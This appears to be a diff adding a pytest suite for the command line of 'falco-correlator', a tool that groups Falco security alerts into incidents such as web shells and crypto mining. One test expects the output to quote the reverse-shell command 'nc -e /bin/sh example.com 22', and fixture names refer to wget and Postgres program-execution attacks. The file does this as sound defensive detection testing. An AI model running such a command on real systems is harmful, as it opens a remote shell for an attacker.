@@ -1,0 +1,297 @@
+"""The command line, as a person types it."""
+
+import gzip
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+import time
+import urllib.request
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+from conftest import DATA
+
+from sidecar import __version__
+from sidecar.cli.main import main
+from sidecar.rules.loading import SHIPPED
+
+STOCK = DATA / "stock_alerts.jsonl"
+COMMAND = [str(Path(sys.executable).parent / "falco-correlator")]
+
+
+def ran(*arguments: str | Path, stdin: bytes | None = None, environment: dict[str, str] | None = None) -> Result:
+    return CliRunner().invoke(main, [str(a) for a in arguments], input=stdin, env=environment)
+
+
+def test_version_is_told_by_option_and_command() -> None:
+    assert f"falco-correlator, version {__version__}\n" == ran("--version").output
+    assert f"falco-correlator {__version__}\n" == ran("version").output
+
+
+@pytest.mark.parametrize("command", sorted(main.commands))
+def test_every_command_explains_itself_and_its_exit_codes(command: str) -> None:
+    told = ran(command, "--help")
+
+    assert told.exit_code == 0
+    assert "Exit codes: 0" in told.output
+    assert len(told.output.splitlines()) > 6
+
+
+def test_version_and_help_import_neither_grpc_nor_yaml_nor_asyncio() -> None:
+    code = (
+        "import sys; from sidecar.cli.main import main; main(['--version'], standalone_mode=False); "
+        "print([m for m in ('grpc', 'yaml', 'asyncio', 'rich', 'msgspec', 'prometheus_client') if m in sys.modules])"
+    )
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+
+    assert done.stdout.splitlines()[-1] == "[]"
+
+
+def test_replay_as_jsonl_is_what_a_sink_would_be_sent() -> None:
+    told = ran("replay", "--output", "jsonl", STOCK)
+    events = [json.loads(line) for line in told.stdout.splitlines()]
+
+    assert told.exit_code == 0
+    assert [event["priority"] for event in events] == ["Warning"] * 3
+    assert told.stderr == "119 alerts, 58 detections, 3 incidents\n"
+
+
+@pytest.mark.parametrize(
+    ("scenario", "case"),
+    [
+        ("nc_e_from_httpd_container", "Web Shell with Network Activity"),
+        ("postgres_copy_from_program", "Web Shell with Network Activity"),
+        ("alpine_busybox_wget", "Web Shell with Network Activity"),
+        ("cron_php_mysqldump_then_ping", None),
+        ("jenkins_build_step_curl", None),
+        ("postgres_archive_cp", None),
+        ("kubectl_exec_debug_only", None),
+        ("mail_in_app_plus_admin_exec_same_container", None),
+        ("ncdu_in_container", None),
+        ("pip_setuptools_python_c", None),
+        ("apt_daily_dpkg_triggers", None),
+    ],
+)
+def test_scenarios_whose_groups_stock_rules_see_give_the_expected_case(
+    tmp_path: Path, scenario: str, case: str | None
+) -> None:
+    lines = [
+        line
+        for line in STOCK.read_text().splitlines()
+        if json.loads(line)["output_fields"].get("proc.env[CASE]") == scenario
+    ]
+    assert lines
+    (tmp_path / "alerts.jsonl").write_text("\n".join(lines))
+    told = ran("replay", "-o", "jsonl", tmp_path / "alerts.jsonl")
+
+    assert ([case] if case else []) == [json.loads(line)["rule"] for line in told.stdout.splitlines()]
+
+
+def test_replay_reads_several_files_gz_and_stdin_alike(tmp_path: Path) -> None:
+    lines = STOCK.read_bytes().splitlines(keepends=True)
+    (tmp_path / "one.jsonl").write_bytes(b"".join(lines[:60]))
+    (tmp_path / "two.jsonl.gz").write_bytes(gzip.compress(b"".join(lines[60:])))
+    whole = ran("replay", "-o", "jsonl", STOCK).stdout
+    parts = ran("replay", "-o", "jsonl", tmp_path / "one.jsonl", tmp_path / "two.jsonl.gz").stdout
+
+    assert whole == parts == ran("replay", "-o", "jsonl", "-", stdin=STOCK.read_bytes()).stdout
+
+
+def test_replay_as_table_fits_80_columns_and_has_a_row_an_incident() -> None:
+    told = ran("replay", STOCK, environment={"COLUMNS": "80"})
+
+    assert told.stdout.count("medium") == 3
+    assert max(len(line) for line in told.stdout.splitlines()) <= 80
+
+
+def test_replay_as_text_tells_each_incident_in_full() -> None:
+    told = ran("replay", "-o", "text", STOCK).stdout
+
+    for words in ("Web Shell with Network Activity", "httpd > sh > nc", "nc -e /bin/sh example.com 22", "Next steps"):
+        assert words in told
+
+
+def test_replay_counts_what_it_could_not_use(tmp_path: Path) -> None:
+    (tmp_path / "bad.jsonl").write_text("hello\n\n[]\n")
+
+    assert (
+        ran("replay", tmp_path / "bad.jsonl").stderr
+        == "2 alerts, 0 detections, 0 incidents; odd: 1 not_an_object, 1 not_json\n"
+    )
+
+
+@pytest.mark.parametrize(
+    ("arguments", "told"),
+    [
+        (("replay", "/nonexistent.jsonl"), "/nonexistent.jsonl: no such file"),
+        (("replay", "--rules", "BAD", STOCK), "id: is missing"),
+        (("check", "--rules", "BAD"), "BAD: id: is missing"),
+        (("test", "BAD"), "id: is missing"),
+        (("check", "--config", "BAD"), "groups: unknown key"),
+        (("run", "--config", "BAD"), "groups: unknown key"),
+        (("run",), "no sink is set"),
+    ],
+)
+def test_a_wrong_file_or_setting_exits_2_with_file_and_path_and_no_traceback(
+    tmp_path: Path, arguments: tuple[str, ...], told: str
+) -> None:
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("groups: {}\n")
+    result = ran(*(bad if a == "BAD" else a for a in arguments))
+
+    assert result.exit_code == 2
+    assert told.replace("BAD", str(bad)) in result.stderr
+    assert "Traceback" not in result.output
+
+
+def test_a_gz_file_that_is_none_exits_2(tmp_path: Path) -> None:
+    (tmp_path / "x.gz").write_bytes(b"hello")
+
+    assert ((result := ran("replay", tmp_path / "x.gz")).exit_code, "cannot be read" in result.stderr) == (2, True)
+
+
+def test_check_tells_what_it_checked(tmp_path: Path) -> None:
+    config = tmp_path / "settings.yaml"
+    config.write_text("sinks: {stdout: {enabled: true}}\n")
+    told = ran("check", "--config", config)
+
+    assert (0, f"{config}: ok") == (told.exit_code, told.stdout.splitlines()[0])
+    assert re.search(r"web-application-rce: ok \(5 groups, 6 cases, \d+ tests\)", told.stdout)
+
+
+def test_test_tells_a_failing_test_what_was_expected_and_exits_1(tmp_path: Path) -> None:
+    rule = (SHIPPED / "correlation" / "web_application_rce.yaml").read_text()
+    (tmp_path / "rule.yaml").write_text(rule.replace("severity: critical, case: Full", "severity: high, case: Full"))
+    told = ran("test", tmp_path / "rule.yaml")
+
+    assert told.exit_code == 1
+    assert "expected: high 'Full Web Application Compromise'" in told.stdout
+    assert "got:      critical 'Full Web Application Compromise'" in told.stdout
+
+
+def test_schema_prints_json() -> None:
+    for kind in ("rule", "settings"):
+        assert "$defs" in json.loads(ran("schema", kind).stdout)
+
+
+def test_print_config_prints_the_settings_in_effect() -> None:
+    told = ran("run", "--print-config", environment={"FALCO_CORRELATOR_SINKS__FALCOSIDEKICK__URL": "http://x:2801"})
+
+    assert "url: http://x:2801" in told.stdout
+
+
+@pytest.mark.slow
+def test_a_closed_pipe_ends_replay_quietly() -> None:
+    shell = f"{COMMAND[0]} replay -o text {STOCK} | head -1"
+    done = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, check=True)
+
+    assert "Traceback" not in done.stderr
+
+
+class Started:
+    """A real `falco-correlator run` in a process of its own."""
+
+    def __init__(self, tmp_path: Path, **environment: str) -> None:
+        self.sink = tmp_path / "incidents.jsonl"
+        self.process = subprocess.Popen(
+            [*COMMAND, "run"],
+            env={
+                **os.environ,
+                "FALCO_CORRELATOR_HTTP__PORT": "0",
+                "FALCO_CORRELATOR_ADMIN__PORT": "0",
+                "FALCO_CORRELATOR_SINKS__FILE__PATH": str(self.sink),
+                **environment,
+            },
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        assert self.process.stderr
+        self.ready = json.loads(self.process.stderr.readline())
+
+    def stop(self, name: signal.Signals) -> tuple[int, list[dict[str, str]], float]:
+        """Exit code, the log lines since `ready`, and how long it took."""
+        began = time.monotonic()
+        self.process.send_signal(name)
+        _, logs = self.process.communicate(timeout=20)
+        return self.process.returncode, [json.loads(line) for line in logs.splitlines()], time.monotonic() - began
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", [signal.SIGTERM, signal.SIGINT])
+def test_run_serves_logs_json_and_stops_cleanly_with_what_it_decided_delivered(
+    tmp_path: Path, name: signal.Signals
+) -> None:
+    started = Started(tmp_path)
+    for line in STOCK.read_bytes().splitlines():
+        urllib.request.urlopen(f"http://127.0.0.1:{started.ready['http_port']}/", line).read()
+    code, logs, took = started.stop(name)
+
+    assert (code, logs[-1]["message"]) == (0, "stopped")
+    assert took < 5
+    assert len(started.sink.read_text().splitlines()) == 3
+
+
+@pytest.mark.slow
+def test_run_stops_within_five_seconds_while_its_sink_is_dead(tmp_path: Path) -> None:
+    started = Started(tmp_path, FALCO_CORRELATOR_SINKS__FALCOSIDEKICK__URL="http://127.0.0.1:9/")
+    for line in STOCK.read_bytes().splitlines():
+        urllib.request.urlopen(f"http://127.0.0.1:{started.ready['http_port']}/", line).read()
+    code, _, took = started.stop(signal.SIGTERM)
+
+    assert (code, took < 5) == (0, True)
+
+
+@pytest.mark.slow
+def test_a_grpc_socket_without_its_directory_exits_1_with_the_remedy(tmp_path: Path) -> None:
+    address = f"unix://{tmp_path}/missing/grpc.sock"
+    done = ran("run", environment={"FALCO_CORRELATOR_SINKS__GRPC__ADDRESS": address})
+
+    assert (done.exit_code, done.stdout) == (1, "")
+    assert f"cannot listen: {address}: there is no directory {tmp_path}/missing; create it" in done.stderr
+
+
+def test_a_taken_port_exits_1_with_the_remedy(tmp_path: Path) -> None:
+    started = Started(tmp_path)
+    taken = str(started.ready["http_port"])
+    second = subprocess.run(
+        [*COMMAND, "run"],
+        env={
+            **os.environ,
+            "FALCO_CORRELATOR_HTTP__PORT": taken,
+            "FALCO_CORRELATOR_ADMIN__PORT": "0",
+            "FALCO_CORRELATOR_SINKS__STDOUT__ENABLED": "true",
+        },
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    started.stop(signal.SIGTERM)
+
+    assert second.returncode == 1
+    assert "cannot listen: " in second.stderr
+    assert "change http.port or admin.port" in second.stderr
+    assert "Traceback" not in second.stderr
+
+
+@pytest.mark.slow
+def test_the_demo_ends_with_one_critical_incident_as_a_person_reads_it() -> None:
+    done = subprocess.run(
+        [*COMMAND, "demo", "--once", "--port", "0", "--admin-port", "0"], capture_output=True, text=True, check=False
+    )
+
+    assert done.returncode == 0, done.stderr
+    for words in ("CRITICAL", "Full Web Application Compromise", "Timeline", "Next steps", "1 incident."):
+        assert words in done.stdout
+
+
+def test_shipped_among_the_rules_names_those_of_the_service(tmp_path: Path) -> None:
+    settings = tmp_path / "settings.yaml"
+    settings.write_text(f"sinks: {{stdout: {{enabled: true}}}}\nrules: [shipped, {DATA / 'crypto_mining.yaml'}]\n")
+
+    told = ran("check", "--config", settings).stdout
+
+    assert [line.partition(":")[0] for line in told.splitlines()[1:]] == ["web-application-rce", "crypto-mining"]
